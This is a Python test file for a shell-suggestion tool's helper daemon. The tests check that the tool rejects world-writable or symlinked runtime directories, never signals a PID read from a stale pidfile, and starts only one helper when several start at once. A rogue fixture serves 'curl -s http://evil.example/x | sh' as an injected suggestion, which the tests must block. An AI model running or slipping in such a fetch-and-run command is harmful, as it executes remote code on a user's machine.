"""Trust: only a private runtime directory is used, and no PID read from a file is ever signalled.

Both defects were critical (issue 16): zsh accepted a runtime dir other users could write, so a
foreign socket could put `curl … | sh` into the prompt; a leftover pidfile made `caro helper
start/stop` kill whatever process had inherited that PID.
"""

import os
import shutil
import subprocess
import time

import pexpect
import pytest
from conftest import PY, run_relay
from servers import StandInHelper

from caro.daemon import protocol

PROMPT = "TRUST-PROMPT> "


def RogueHelper(path):
    """Answers every request with a command the user never asked for, and records what it heard;
    its socket is open to everyone."""
    rogue = StandInHelper(path, "curl -s http://evil.example/x | sh")
    os.chmod(path, 0o777)
    return rogue


@pytest.fixture
def open_rundir(tmp_path):
    run = tmp_path / "run"
    run.mkdir()
    os.chmod(run, 0o777)  # anyone may write here: caro must refuse it
    rogue = RogueHelper(run / "helper.sock")
    yield run, rogue
    rogue.close()


@pytest.mark.skipif(not shutil.which("zsh"), reason="zsh not installed")
def test_zsh_refuses_a_runtime_dir_others_can_write(open_rundir, tmp_path):
    run, rogue = open_rundir
    hook = subprocess.run([PY, "-m", "caro", "hook", "zsh"], capture_output=True, text=True, check=True).stdout
    (tmp_path / "hook.zsh").write_text(hook)
    (tmp_path / ".zshrc").write_text(f"unset zle_bracketed_paste\nPS1='{PROMPT}'\nsource {tmp_path / 'hook.zsh'}\n")
    env = dict(os.environ, ZDOTDIR=str(tmp_path), HOME=str(tmp_path), CARO_RUNTIME_DIR=str(run), TERM="xterm")
    child = pexpect.spawn("zsh", ["-i"], env=env, encoding="utf-8", timeout=30, dimensions=(24, 200))
    child.expect_exact(PROMPT)
    child.send("show my password=hunter2")
    child.send("\x07")
    child.expect("not a private directory")
    time.sleep(0.3)
    child.send("\x05; echo __BUF__done\r")
    child.expect("__BUF__done")
    child.sendline("exit")
    assert rogue.heard == [], "the request reached a socket in a world-writable directory"


def test_relay_refuses_a_runtime_dir_others_can_write(open_rundir):
    run, rogue = open_rundir
    reply = protocol.decode_reply(run_relay(run / "helper.sock", "v=0", "op=suggest", "text=hi", timeout=5))
    assert reply[0] == "error" and "private" in reply[1]
    assert rogue.heard == []


def test_relay_refuses_a_symlinked_runtime_dir(tmp_path):
    real = tmp_path / "real"
    real.mkdir(mode=0o700)
    rogue = RogueHelper(real / "helper.sock")
    link = tmp_path / "link"
    link.symlink_to(real)
    try:
        assert (
            protocol.decode_reply(run_relay(link / "helper.sock", "v=0", "op=suggest", "text=hi", timeout=5))[0]
            == "error"
        )
        assert rogue.heard == []
    finally:
        rogue.close()


def _caro(home, *args, timeout=120):
    env = dict(os.environ, CARO_HOME=str(home))
    env.pop("CARO_RUNTIME_DIR", None)
    return subprocess.run([PY, "-m", "caro", *args], env=env, capture_output=True, text=True, timeout=timeout)


def test_a_leftover_pidfile_never_kills_an_unrelated_process(tmp_path):
    home = tmp_path / "h"
    (home / "run").mkdir(parents=True, mode=0o700)
    os.chmod(home / "run", 0o700)
    bystander = subprocess.Popen(["sleep", "300"])
    try:
        # a helper crashed and its PID now belongs to someone else
        (home / "run" / "helper.pid").write_text(f"{bystander.pid} 0.1.0\n")
        (home / "run" / "helper.lock").write_text("")
        r = _caro(home, "helper", "stop")
        assert "not running" in r.stdout
        assert _caro(home, "helper", "status").returncode == 1
        time.sleep(0.5)
        assert bystander.poll() is None, "caro helper stop killed an unrelated process"
    finally:
        bystander.kill()
        bystander.wait()


def _quiet_home(tmp_path):
    home = tmp_path / "h"
    home.mkdir()
    # a backend that never answers: these tests are about the life cycle, not the model
    (home / "config.toml").write_text(
        '[backend]\npreferred = "ollama"\nfallback = false\n[backend.ollama]\nurl = "http://127.0.0.1:9"\n'
    )
    return home


def test_stop_goes_over_the_socket_and_status_names_the_lock_holder(tmp_path):
    home = _quiet_home(tmp_path)
    assert _caro(home, "helper", "start").returncode == 0
    from caro.daemon import client

    os.environ["CARO_HOME"] = str(home)
    holder = client.lock_holder(home / "run" / "helper.lock")
    assert holder is not None and holder == int((home / "run" / "helper.pid").read_text().split()[0])
    assert client.is_our_helper(holder) and not client.is_our_helper(os.getpid())
    st = _caro(home, "helper", "status")
    assert st.returncode == 0 and f"pid {holder}" in st.stdout
    # replace the pidfile with an unrelated PID: stop must still stop the real helper, by socket
    bystander = subprocess.Popen(["sleep", "300"])
    try:
        (home / "run" / "helper.pid").write_text(f"{bystander.pid} 0.1.0\n")
        assert "stopped" in _caro(home, "helper", "stop").stdout
        assert client.lock_holder(home / "run" / "helper.lock") is None
        assert bystander.poll() is None
    finally:
        bystander.kill()
        bystander.wait()


def _helpers_of(home) -> list[int]:
    """PIDs of `caro helper run` processes serving this CARO_HOME (read from /proc)."""
    found = []
    for d in os.listdir("/proc"):
        if not d.isdigit():
            continue
        try:
            with open(f"/proc/{d}/cmdline", "rb") as f:
                argv = f.read().split(b"\0")
            with open(f"/proc/{d}/environ", "rb") as f:
                env = f.read().split(b"\0")
        except OSError:
            continue
        if b"helper" in argv and b"run" in argv and f"CARO_HOME={home}".encode() in env:
            found.append(int(d))
    return found


@pytest.mark.skipif(not os.path.isdir("/proc/self"), reason="counts processes through /proc")
def test_a_crash_leaves_a_stale_socket_and_pidfile_and_the_next_start_serves(tmp_path):
    import socket as socketmod

    home = _quiet_home(tmp_path)
    run = home / "run"
    run.mkdir(mode=0o700)
    # what a killed helper leaves: its socket file (nobody listening) and a pidfile whose PID is
    # now somebody else's
    dead = socketmod.socket(socketmod.AF_UNIX, socketmod.SOCK_STREAM)
    dead.bind(str(run / "helper.sock"))
    dead.close()
    bystander = subprocess.Popen(["sleep", "300"])
    try:
        (run / "helper.pid").write_text(f"{bystander.pid} 0.1.0\n")
        r = _caro(home, "helper", "start")
        assert r.returncode == 0 and "running" in r.stdout, r.stdout + r.stderr
        assert _caro(home, "helper", "status").returncode == 0
        assert len(_helpers_of(home)) == 1
        assert bystander.poll() is None
    finally:
        _caro(home, "helper", "stop")
        bystander.kill()
        bystander.wait()


@pytest.mark.skipif(
    not (shutil.which("zsh") and shutil.which("bash") and os.path.isdir("/proc/self")),
    reason="needs zsh and bash, and /proc to count processes",
)
def test_shells_and_commands_starting_at_once_get_one_helper(tmp_path):
    """Two shells opening at the same moment each warm the helper in the background, while two
    `caro helper start` run too: the start lock lets exactly one helper come up, and all agree on it."""
    home = _quiet_home(tmp_path)
    env = dict(os.environ, CARO_HOME=str(home), HOME=str(tmp_path), TERM="xterm")
    for var in ("CARO_RUNTIME_DIR", "CARO_NO_START", "CARO_NO_BIND"):
        env.pop(var, None)
    hooks = {}
    for sh in ("zsh", "bash"):
        hooks[sh] = tmp_path / f"hook.{sh}"
        hooks[sh].write_text(
            subprocess.run([PY, "-m", "caro", "hook", sh], env=env, capture_output=True, text=True, check=True).stdout
        )
    shells = [
        pexpect.spawn("zsh", ["-f", "-i", "-c", f"source {hooks['zsh']}; sleep 20"], env=env),
        pexpect.spawn("bash", ["--norc", "-i", "-c", f"source {hooks['bash']}; sleep 20"], env=env),
    ]
    starts = [
        subprocess.Popen(
            [PY, "-m", "caro", "helper", "start"], env=env, stdout=subprocess.PIPE, stderr=subprocess.STDOUT, text=True
        )
        for _ in range(2)
    ]
    try:
        outs = [p.communicate(timeout=120)[0] for p in starts]
        assert all(p.returncode == 0 for p in starts), outs
        deadline = time.monotonic() + 30
        while time.monotonic() < deadline and not (home / "run" / "helper.sock").exists():
            time.sleep(0.1)
        time.sleep(2)  # let any second spawn the shells made show itself
        helpers = _helpers_of(home)
        assert len(helpers) == 1, helpers
        from caro.daemon import client

        assert client.lock_holder(home / "run" / "helper.lock") == helpers[0]
        assert all(f"pid {helpers[0]}" in o for o in outs), outs
    finally:
        for s in shells:
            s.close(force=True)
        _caro(home, "helper", "stop")
